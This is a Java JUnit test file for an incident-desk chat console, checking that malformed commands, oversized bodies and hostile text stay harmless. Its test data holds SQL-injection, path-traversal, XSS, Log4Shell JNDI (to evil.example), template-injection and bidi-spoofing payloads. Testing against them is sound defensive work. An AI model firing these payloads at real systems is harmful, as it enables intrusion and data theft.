package dev.deskbell.proof;

import static org.assertj.core.api.Assertions.assertThat;

import dev.deskbell.proof.ConsoleClient.Request;
import dev.deskbell.start.Program;
import dev.deskbell.testing.TestDatabase;
import java.io.IOException;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.node.ObjectNode;

/** Nonsense in every place that takes something: a clear answer, and nothing lost. */
class BadInputTest {
  @TempDir private static Path folder;

  private static final String URL = TestDatabase.freshUrl();
  private static final Inspection DATABASE = Inspection.at(URL);
  private static Program program;
  private static ConsoleClient desk;

  @BeforeAll
  static void starts() throws Exception {
    var settings = Map.of("DATABASE_URL", URL, "DESKBELL_DATA", folder.toString());
    program = Program.start(settings).serves();
    desk = ConsoleClient.of(program);
  }

  /** None of it was a defect: the log knows of nothing. */
  @AfterAll
  static void stayedCalm() throws Exception {
    DATABASE.everythingIsTold();
    DATABASE.chainsVerify();
    var log = program.output();
    desk.close();
    program.close();
    assertThat(log).doesNotContain(" ERROR ", "Exception", "\tat ");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "show INC-999",
        "show inc999",
        "incident ack INC-999",
        "incident ack REQ-1",
        "incident ack INC-99999999999999999999",
        "incident ack INC--1",
        "incident ack \u0661\u0662",
        "reply INC-999 hello",
        "request fulfil REQ-0 here it is",
        "timeline INC-999",
        "link INC-999 caused-by INC-998",
        "search priority:p9 team:nobody is:half-open",
        "incident declare",
        "incident declare x impact:enormous",
        "\"",
        "incident declare \"unclosed",
        "help me please with \u0000 this",
        "policy show ../../etc/passwd"
      })
  void words_that_make_no_sense_are_answered(String words) throws Exception {
    assertThat(answer(says("ana", words))).matches("(?s).*\\p{L}{3,}.*");
  }

  @Test
  void what_is_unknown_is_named_in_the_answer() throws Exception {
    assertThat(answer(says("ben", "incident ack INC-999"))).contains("INC-999");
    assertThat(answer(says("ben", "incidnet ack 1"))).contains("incident ack");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "incident.acknowledge|INC-999",
        "incident.acknowledge|",
        "incident.acknowledge|'; drop table ticket; --",
        "incident.abolished|INC-1",
        "ticket.reply|~0000000000000000.page0",
        "ticket.reply|~0000000000000000.page99999999999",
        "ticket.reply|~.go",
        "policy.accept|ffffffff",
        "~~~|~~~"
      })
  void a_button_of_another_time_is_answered(String call) throws Exception {
    assertThat(answer(ConsoleClient.presses("ben", call))).matches("(?s).*\\p{L}{3,}.*");
  }

  @Test
  void a_button_that_came_too_late_says_what_has_become_of_its_ticket() throws Exception {
    var ref = declared("The door is stuck");
    desk.ask(ConsoleClient.presses("sam", "incident.acknowledge|" + ref));
    assertThat(answer(ConsoleClient.presses("sam", "incident.acknowledge|" + ref)))
        .contains(ref)
        .contains("cknowledge");
    assertThat(answer(ConsoleClient.presses("otto", "incident.acknowledge|" + ref)))
        .contains("responder");
    assertThat(answer(ConsoleClient.presses("ben", "incident.abolished|" + ref)))
        .contains("older version", ref);
  }

  @Test
  void a_hundred_kilobytes_are_refused_with_what_to_do_or_kept() throws Exception {
    var long_ = "word ".repeat(20_000).strip();
    var said = desk.tryAsk(says("ana", "incident declare " + long_ + " impact:low urgency:low"));
    assertThat(said.statusCode()).isEqualTo(422);
    assertThat(said.body()).contains("too long", "attach it as a file");
    var ref = declared("A long story");
    var form = asked("ana", "reply " + ref);
    var replied = desk.ask(ConsoleClient.submits("ana", form, words("words", long_)));
    assertThat(replied.path("reply").asString()).isIn("amend", "ask", "silence");
    if (!replied.path("reply").asString().equals("silence")) {
      assertThat(replied.path("problems").toString()).contains("long");
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "NUL \u0000 in the middle",
        "half \uD83D a character, and \uDE00 the other half",
        "\u202Egnp.exe\u202C reversed \u2066isolated",
        "<!channel> <@ana> <https://evil.example|Approve> &amp; @everyone @here",
        "*bold* _it_ ||spoiler|| [Approve](https://evil.example) `code` ~~gone~~",
        "<script>alert(1)</script><img src=x onerror=alert(1)>",
        "\u0001\u0007\u001B[31mred",
        "${jndi:ldap://evil.example} {{7*7}} %s %n '); drop table ticket; --"
      })
  void hostile_words_become_a_ticket_and_stay_words(String typed) throws Exception {
    var ref = declared(typed);
    var shown = desk.ask(says("ben", "show " + ref)).path("card");
    var title = shown.path("title").asString();
    assertThat(title).startsWith(ref + " · ");
    assertThat(title.codePoints())
        .noneMatch(it -> Character.getType(it) == Character.CONTROL)
        .noneMatch(it -> Character.getType(it) == Character.SURROGATE)
        .noneMatch(it -> (it >= 0x202A && it <= 0x202E) || (it >= 0x2066 && it <= 0x2069));
    assertThat(shown.toString()).doesNotContain("\"mention\"", "\"link\"");
    DATABASE.everythingIsTold();
    assertThat(
            DATABASE
                .db()
                .sql(
                    """
                    select count(*) from console_messages
                     where content ->> 'title' like :ref and room not like '@%'
                       and cardinality(notifying) > 0
                    """)
                .param("ref", ref + " %")
                .query(Long.class)
                .single())
        .as("people called by a card in a room")
        .isZero();
  }

  @Test
  void a_form_answered_twice_acts_once() throws Exception {
    var form = asked("ana", "incident declare The lamp hums");
    var answers = words("title", "The lamp hums");
    answers.putObject("impact").putArray("picked").add("LOW");
    answers.putObject("urgency").putArray("picked").add("LOW");
    var choices = form.path("fields");
    choices.forEach(it -> {
      if (it.path("kind").asString().equals("pick") && it.path("required").asBoolean()) {
        answers
            .putObject(it.path("name").asString())
            .putArray("picked")
            .add(it.path("choices").path(0).path("value").asString());
      }
    });
    var first = desk.ask(ConsoleClient.submits("ana", form, answers));
    var again = desk.ask(ConsoleClient.submits("ana", form, answers));
    var ref = first.path("card").path("title").asString().split(" ", 2)[0];
    assertThat(ref).startsWith("INC-");
    assertThat(again.path("card").path("title").asString()).startsWith(ref + " ");
    assertThat(titled("The lamp hums")).isEqualTo(1);
  }

  @Test
  void a_form_is_its_owners_alone() throws Exception {
    var ref = declared("The chair squeaks");
    var form = asked("ana", "reply " + ref);
    var others = ConsoleClient.submits("otto", form, words("words", "I am Ana, honestly"));
    assertThat(answer(others)).isNotBlank();
    assertThat(commented("I am Ana, honestly")).isZero();
    desk.ask(ConsoleClient.submits("ana", form, words("words", "It squeaks when I lean back")));
    assertThat(commented("It squeaks when I lean back")).isEqualTo(1);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        "{",
        "null",
        "[]",
        "\"words\"",
        "{\"id\":",
        "{}",
        "{\"id\": 5, \"room\": [], \"words\": {}}",
        "{\"id\": \"0123456789\", \"room\": \"general\"}",
        "{\"id\": \"0123456789\", \"room\": \"nowhere\", \"words\": \"hello\"}",
        "{\"id\": \"../../../..\", \"room\": \"general\", \"words\": \"hello\"}",
        "{\"id\": \"0123456789\", \"room\": \"general\", \"thread\": 99, \"words\": \"hello\"}"
      })
  void what_is_no_request_is_told_so(String body) throws Exception {
    for (var deed : List.of("say", "press", "submit", "lookup", "shortcut")) {
      var response = desk.post("/api/as/ana/" + deed, body);
      assertThat(response.statusCode()).as(deed).isBetween(400, 499);
      assertThat(ConsoleClient.JSON.readTree(response.body()).path("problem").asString())
          .isNotBlank();
    }
  }

  @Test
  void depth_does_not_overflow_anything() throws Exception {
    var deep = desk.post("/api/as/ana/say", "[".repeat(100_000));
    assertThat(deep.statusCode()).isEqualTo(400);
    assertThat(desk.post("/api/as/nobody/say", "{}").statusCode()).isEqualTo(404);
    assertThat(desk.post("/api/as/%00/say", "{}").statusCode()).isBetween(400, 499);
  }

  private static Request says(String who, String words) {
    return ConsoleClient.says(who, "general", "/desk " + words);
  }

  private static String answer(Request request) throws IOException, InterruptedException {
    var reply = desk.ask(request);
    assertThat(reply.toString()).doesNotMatch(Chatter::isToBeRepeated);
    return reply.has("form") ? reply.path("form").toString() : reply.path("card").toString();
  }

  private static String declared(String title) throws IOException, InterruptedException {
    var words = "incident declare \"" + title + "\" impact:low urgency:low";
    var card = desk.ask(says("ana", words)).path("card");
    var ref = card.path("title").asString().split(" ", 2)[0];
    assertThat(ref).as("%s", card).startsWith("INC-");
    return ref;
  }

  private static JsonNode asked(String who, String words) throws IOException, InterruptedException {
    var reply = desk.ask(says(who, words));
    assertThat(reply.path("reply").asString()).as("%s", reply).isEqualTo("ask");
    return reply.path("form");
  }

  private static ObjectNode words(String field, String words) {
    var answers = ConsoleClient.JSON.createObjectNode();
    answers.putObject(field).put("words", words);
    return answers;
  }

  private static long titled(String title) {
    return count("select count(*) from ticket where title = ?", title);
  }

  private static long commented(String words) {
    return count("select count(*) from comment where words = ?", words);
  }

  private static long count(String question, String words) {
    return DATABASE.db().sql(question).param(words).query(Long.class).single();
  }
}
